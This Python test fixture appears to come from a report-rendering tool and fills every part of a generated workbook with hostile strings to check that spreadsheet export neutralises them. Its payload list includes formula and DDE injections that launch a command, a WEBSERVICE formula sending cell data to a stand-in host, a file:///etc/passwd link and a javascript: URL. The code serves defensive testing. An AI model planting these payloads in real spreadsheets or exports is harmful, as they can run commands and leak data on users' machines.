"""A workbook of hostile texts, wherever a document has one: cells, headings, titles, filters, tiles, prose, names."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from reportd.report.document import Chart, Document, Format, Kpi, Kpis, Table, Text
from tests.unit.render.sheets import column, document, spooled, table

HOSTILE = {
    "formula": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line break": "\n=1+1",
    "space": " =1+1",
    "array formula": "{=1+1}",
    "call": "=cmd|' /C calc'!A0",
    "DDE": '+DDE("cmd";"/C calc";"x")',
    "web service": '=WEBSERVICE("http://example.invalid/"&A1)',
    "hyperlink": '=HYPERLINK("http://example.invalid/","click")',
    "address": "http://example.invalid/?q=1",
    "mail address": "mailto:a@example.invalid?subject=x",
    "file address": "file:///etc/passwd",
    "internal": "internal:Sheet2!A1",
    "external": "external:c:\\x.xlsx#Sheet1!A1",
    "share": "\\\\example.invalid\\share\\x.xlsx",
    "script": "javascript:alert(1)",
    "apostrophe": "'=1+1",
    "full-width equals": "＝1+1",
    "escaped return": "_x000D_=1+1",
    "escaped letter": "_x0041_",
    "escape of an escape": "_x005F_x0041_",
    "controls": "a\x01\x08\x0b\x1b\x1f\x7f\x85\ufffe\uffffz",
    "markup": "<f>1+1</f><v>\"&'</v>]]><!-- -->",
    "entities": "&amp;&#61;1+1&lt;",
    "footer codes": '&A&F&P&"Arial"&K&[File]',
    "spaces": "  outer  ",
    "empty": "",
    "number": "1e5",
    "date": "2026-01-01",
    "error": "#REF!",
    "true": "TRUE",
    "surrogates": "😀" * 3,
    "right to left": "\u202ename\u202c",
}
LONG = "=" + "x😀" * 30_000
LONG_SHOWN = 32_767


def hostile_cells(directory: Path) -> Table:
    """The table `cells`: the texts of HOSTILE in column A, the same as links in B, and a number that adds up in C."""
    columns = [column("text"), column("page_url"), column("qty", "integer", total=str(len(HOSTILE)))]
    columns[0] = replace(columns[0], title="=cmd|' /C calc'!A0")
    return table(directory, columns, [[text, text, "1"] for text in HOSTILE.values()], title="cells")


def hostile(directory: Path) -> Document:
    """A document that has them everywhere."""
    texts = list(HOSTILE.values())
    cells = hostile_cells(directory)
    named = [
        replace(table(directory, [replace(column("a"), title=title)], [["x"]], title=f"n{number}"), title=title)
        for number, title in enumerate((*texts, "x" * 300, "History", "history", "[a]:*?/\\", "'", "'cells'", "CELLS"))
    ]
    chart = tuple(
        Chart(
            f"c{number}",
            "bar",
            text or "-",
            replace(column("name"), title=text or "x"),
            (replace(column("amount", "numeric"), index=1, title=text or "x"),),
            spooled(directory / f"c{number}.csv", [[text, "1.5"], ["b", "2.5"]]),
            (
                replace(column("name"), title=text or "x"),
                replace(column("amount", "numeric"), index=1, title=text or "y"),
            ),
        )
        for number, text in enumerate(texts)
    )
    tiles = Kpis("kpis", texts[0], tuple(Kpi(text, text, Format("text"), delta_label=text) for text in (*texts, LONG)))
    prose = tuple(Text(f"t{number}", text, (text or "-", LONG)) for number, text in enumerate(texts))
    everything = "|".join(texts)
    made = document(
        tiles,
        *prose,
        *chart,
        cells,
        *named,
        title="=1+1" + everything,
        subtitle=everything,
        description=LONG,
        author=everything,
        confidentiality=everything,
    )
    return replace(made, filters=tuple((text, text) for text in (*texts, LONG)))
